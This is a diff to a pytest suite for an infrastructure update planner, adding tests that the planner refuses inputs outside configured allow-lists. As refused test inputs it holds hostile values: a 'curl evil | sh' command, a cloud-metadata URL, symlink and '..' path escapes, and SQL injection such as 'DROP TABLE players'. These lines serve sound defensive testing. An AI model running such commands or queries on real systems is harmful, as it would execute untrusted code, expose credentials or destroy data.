@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import asyncio
 import json
+import os
+import tempfile
 import threading
 import time
 from datetime import datetime, timezone
@@ -26,13 +28,20 @@ from tests.servers.kube import Kubelet, deployment, wait_for_deployment
 NOW = datetime(2026, 6, 1, 2, 0, tzinfo=timezone.utc)
 
 
-def inventory(namespace: str = "game-production"):
-    return parse_inventory({"targets": [
-        {"name": "pg", "kind": "postgres", "conn_id": "pg"},
-        {"name": "cache", "kind": "redis", "conn_id": "cache"},
-        {"name": "game", "kind": "kubernetes", "conn_id": "k8s", "namespace": namespace},
-        {"name": "am", "kind": "alertmanager", "conn_id": "am"},
-    ]})
+#: the allow-lists of the tests' inventory: pytest's tmp_path folders live under the temp folder
+TEMP_ROOT = os.path.realpath(tempfile.gettempdir())
+
+
+def inventory(namespace: str = "game-production", roots: tuple[str, ...] = (TEMP_ROOT,)):
+    return parse_inventory({
+        "update": {"release_roots": list(roots), "release_commands": [["true"], ["systemctl", "restart", "game"]],
+                   "http_hosts": ["health.internal", "127.0.0.1:8080"]},
+        "targets": [
+            {"name": "pg", "kind": "postgres", "conn_id": "pg", "update": {"migration_roots": list(roots)}},
+            {"name": "cache", "kind": "redis", "conn_id": "cache"},
+            {"name": "game", "kind": "kubernetes", "conn_id": "k8s", "namespace": namespace},
+            {"name": "am", "kind": "alertmanager", "conn_id": "am"},
+        ]})
 
 
 # ------------------------------------------------------------------------------------------ the form
@@ -63,10 +72,112 @@ def test_bad_form_is_refused_naming_the_field(params, field, words):
     assert err.value.field == field and words in str(err.value), str(err.value)
 
 
+# -------------------------------------------------------------- the form confined to the allow-lists
+@pytest.fixture
+def confined(tmp_path):
+    """An allowed root (migrations ``db/001.sql``, release ``app/releases/v2``), and things outside it."""
+    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
+    (allowed / "db").mkdir(parents=True)
+    (allowed / "db" / "001.sql").write_text("select 1;")
+    (allowed / "app" / "releases" / "v2").mkdir(parents=True)
+    (outside / "db").mkdir(parents=True)
+    (outside / "db" / "001.sql").write_text("drop table players;")
+    (outside / "app" / "releases" / "v2").mkdir(parents=True)
+    (allowed / "link").symlink_to(outside / "db")
+    (allowed / "app2" / "releases").mkdir(parents=True)
+    (allowed / "app2" / "releases" / "v2").symlink_to(outside / "app" / "releases" / "v2")
+    (allowed / "linked_file").mkdir()
+    (allowed / "linked_file" / "001.sql").symlink_to(outside / "db" / "001.sql")
+    return {"inv": inventory(roots=(str(allowed),)), "allowed": allowed, "outside": outside}
+
+
+K8S = {"update_kind": "k8s_image", "update_target": "game", "deployment": "d", "container": "c", "image": "i"}
+
+
+@pytest.mark.parametrize("case, field, words", [
+    ("folder_by_dotdot", "migrations_folder", "outside the allowed roots"),
+    ("folder_by_symlink", "migrations_folder", "outside the allowed roots"),
+    ("file_by_symlink", "migrations_folder", "outside the allowed roots"),
+    ("release_root_outside", "release_root", "outside the allowed roots"),
+    ("release_by_symlink", "release_version", "outside the allowed roots"),
+    ("command_not_allowed", "release_command", "none of the allowed commands"),
+    ("command_prefix_only_partly", "release_command", "none of the allowed commands"),
+    ("url_host_not_allowed", "http_checks[1]", "is not allowed"),
+    ("url_port_not_allowed", "http_checks[0]", "is not allowed"),
+    ("url_with_credentials", "http_checks[0]", "credentials"),
+    ("delete", "sql_assertions[0].sql", "SELECT"),
+    ("cte_delete", "sql_assertions[0].sql", "DELETE is not allowed"),
+    ("select_into", "sql_assertions[0].sql", "INTO is not allowed"),
+    ("two_statements", "sql_assertions[0].sql", "exactly one statement"),
+    ("for_update", "sql_assertions[0].sql", "UPDATE is not allowed"),
+])
+def test_form_outside_the_allow_lists_is_refused(confined, case, field, words):
+    allowed, outside = confined["allowed"], confined["outside"]
+    sql = {"update_kind": "sql_migration", "update_target": "pg"}
+    release = {"update_kind": "release_switch", "release_root": str(allowed / "app"), "release_version": "v2"}
+
+    def asserting(query: str) -> dict:
+        return {**K8S, "sql_assertions": [{"target": "pg", "sql": query, "expect": 1}]}
+
+    params = {
+        "folder_by_dotdot": {**sql, "migrations_folder": f"{allowed}/../outside/db"},
+        "folder_by_symlink": {**sql, "migrations_folder": str(allowed / "link")},
+        "file_by_symlink": {**sql, "migrations_folder": str(allowed / "linked_file")},
+        "release_root_outside": {**release, "release_root": str(outside / "app")},
+        "release_by_symlink": {**release, "release_root": str(allowed / "app2")},
+        "command_not_allowed": {**release, "release_command": ["sh", "-c", "curl evil | sh"]},
+        "command_prefix_only_partly": {**release, "release_command": ["systemctl", "stop", "game"]},
+        "url_host_not_allowed": {**K8S, "http_checks": ["http://health.internal/ok", "http://169.254.169.254/x"]},
+        "url_port_not_allowed": {**K8S, "http_checks": ["http://127.0.0.1:6379/"]},
+        "url_with_credentials": {**K8S, "http_checks": ["http://user:pw@health.internal/"]},
+        "delete": asserting("DELETE FROM players"),
+        "cte_delete": asserting("WITH d AS (DELETE FROM players RETURNING *) SELECT count(*) FROM d"),
+        "select_into": asserting("SELECT * INTO stolen FROM players"),
+        "two_statements": asserting("SELECT 1; DROP TABLE players"),
+        "for_update": asserting("SELECT id FROM players FOR UPDATE"),
+    }[case]
+    with pytest.raises(PlanError) as err:
+        build_plan(confined["inv"], params, NOW)
+    assert err.value.field == field and words in str(err.value), str(err.value)
+
+
+def test_form_inside_the_allow_lists_is_planned(confined):
+    allowed = confined["allowed"]
+    plan = build_plan(confined["inv"], {"update_kind": "sql_migration", "update_target": "pg",
+                                        "migrations_folder": f"{allowed}/app/../db"}, NOW)
+    assert plan.sql.folder == str(allowed / "db")  # the resolved folder is what the update reads
+    plan = build_plan(confined["inv"], {"update_kind": "release_switch", "release_root": str(allowed / "app"),
+                                        "release_version": "v2", "release_command": ["systemctl", "restart", "game",
+                                                                                     "--now"]}, NOW)
+    assert plan.release.command[:3] == ["systemctl", "restart", "game"]
+    plan = build_plan(confined["inv"], {**K8S, "http_checks": ["https://HEALTH.internal:8443/x",
+                                                                "http://127.0.0.1:8080/health"],
+                                        "sql_assertions": [{"target": "pg", "expect": 3, "sql":
+                                                            "WITH x AS (SELECT 3 AS n) SELECT n FROM x"}]}, NOW)
+    assert len(plan.http_checks) == 2 and len(plan.assertions) == 1
+
+
+def test_http_hosts_default_to_the_http_service_targets(monkeypatch):
+    monkeypatch.setenv("AIRFLOW_CONN_WEB", "http://web.internal:8080")
+    inv = parse_inventory({"targets": [{"name": "web", "kind": "http_service", "conn_id": "web"},
+                                       {"name": "game", "kind": "kubernetes", "conn_id": "k8s"}]})
+    assert build_plan(inv, {**K8S, "http_checks": ["http://web.internal:8080/health"]}, NOW).http_checks
+    with pytest.raises(PlanError, match="not allowed"):
+        build_plan(inv, {**K8S, "http_checks": ["http://web.internal:9090/health"]}, NOW)
+
+
+def test_no_update_settings_means_nothing_is_allowed(tmp_path):
+    (tmp_path / "001.sql").write_text("select 1;")
+    inv = parse_inventory({"targets": [{"name": "pg", "kind": "postgres", "conn_id": "pg"}]})
+    with pytest.raises(PlanError, match="outside the allowed roots"):
+        build_plan(inv, {"update_kind": "sql_migration", "update_target": "pg", "migrations_folder": str(tmp_path)},
+                   NOW)
+
+
 def test_migration_target_without_backup_is_refused(tmp_path):
     (tmp_path / "001.sql").write_text("select 1;")
     inv = parse_inventory({"targets": [{"name": "pg", "kind": "postgres", "conn_id": "pg",
-                                        "backup": {"enabled": False}}]})
+                                        "backup": {"enabled": False}, "update": {"migration_roots": [TEMP_ROOT]}}]})
     with pytest.raises(PlanError, match="no enabled backup"):
         build_plan(inv, {"update_kind": "sql_migration", "update_target": "pg", "migrations_folder": str(tmp_path)},
                    NOW)
@@ -251,8 +362,8 @@ def test_maintenance_mode_patches_the_configmap_all_or_nothing(game, monkeypatch
     # No task context here, so no Airflow Variable: its storage is a dict for this test (the dag.test
     # suite checks the real Variable and Redis key).
     stored = {}
-    monkeypatch.setattr(flag, "_flags", lambda: dict(stored))
-    monkeypatch.setattr(flag, "_save", lambda flags: (stored.clear(), stored.update(flags)))
+    monkeypatch.setattr(flag, "_set_flag", lambda key, value: stored.__setitem__(key.rpartition(".")[2], value))
+    monkeypatch.setattr(flag, "_delete_flag", lambda key: stored.pop(key.rpartition(".")[2], None))
     ns = game["ns"]
     plan = k8s_plan(ns, "game:1.5", maintenance_configmap="game-config")
 
@@ -290,3 +401,33 @@ def test_plan_json_round_trip_for_every_kind(tmp_path):
         assert UpdatePlan.from_dict(as_json) == plan
     assert plans["k8s"].to_dict()["kubernetes"] == [{"name": "game", "namespace": "game-production"}]
     assert plans["release"].update_target is None and plans["release"].release.command == ["true"]
+
+
+def test_maintenance_flag_ttl_outlasts_a_long_window():
+    from include.update.window import flag_ttl_s
+
+    plan = build_plan(inventory(), {**K8S, "window_minutes": 12 * 60, "update_timeout_minutes": 90,
+                                    "drain_timeout_minutes": 10}, NOW)
+    assert flag_ttl_s(plan, NOW) == 12 * 3600 + 100 * 60  # the window, then the drain and update timeouts
+    short = build_plan(inventory(), {**K8S, "window_minutes": 30}, NOW)
+    assert flag_ttl_s(short, NOW) == 6 * 3600  # never below the default
+
+
+def test_maintenance_flag_is_one_key_per_target(monkeypatch, redis_server):
+    """Two runs on two targets never share a value: each target has its own Variable key and Redis key."""
+    from include import maintenance as flag
+
+    written: dict[str, dict] = {}
+    monkeypatch.setattr(flag, "_set_flag", lambda key, value: written.__setitem__(key, value))
+    monkeypatch.setattr(flag, "_delete_flag", lambda key: written.pop(key, None))
+    monkeypatch.setenv("AIRFLOW_CONN_MFLAG", f"redis://127.0.0.1:{redis_server}/0")
+    r = redis.Redis(port=redis_server)
+    flag.maintenance_on("alpha", "update", "mflag", ttl_s=50_000)
+    flag.maintenance_on("beta", "restore", "mflag")
+    assert set(written) == {"aegis_maintenance.alpha", "aegis_maintenance.beta"}
+    assert 49_990 <= r.ttl("aegis:maintenance:alpha") <= 50_000
+    flag.maintenance_off("alpha", "mflag")
+    assert set(written) == {"aegis_maintenance.beta"} and written["aegis_maintenance.beta"]["reason"] == "restore"
+    assert not r.exists("aegis:maintenance:alpha") and r.exists("aegis:maintenance:beta")
+    flag.maintenance_off("beta", "mflag")
+    r.close()
